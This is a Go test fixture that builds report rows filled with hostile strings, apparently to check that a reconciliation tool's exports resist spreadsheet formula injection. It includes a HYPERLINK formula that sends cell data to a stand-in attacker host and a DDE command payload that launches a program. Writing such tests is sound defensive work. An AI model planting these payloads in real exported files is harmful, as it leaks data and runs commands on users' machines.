package reportstest

import (
	"strings"

	"trueup/reconcile"
)

// Hostile are rows whose holders are text that some program takes for something else.
func Hostile() []Line {
	var lines []Line
	for _, text := range []string{
		`=HYPERLINK("http://attacker.example/?"&A1,"click")`, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "'quoted", "'=1+1", "＝1+1",
		"=cmd|' /C calc'!A0", "bell\x07 and escape\x1b[31m", "\x00=1+1", "line\nbreak", `<b>&amp;</b> "q" ]]>`, "1e10",
		"0042", "TRUE", "_x0041_", "\u202egnirts", "日本語 😀", " leading and trailing ",
		strings.Repeat("long ", 8000),
	} {
		lines = append(lines, Line{Person: text, Account: "x@example.com", Product: "figma-pro", Verdict: reconcile.InUse,
			Reasons: []reconcile.Reason{reconcile.RecentUse}, Paths: []string{"direct"}, Idle: 1})
	}
	return lines
}
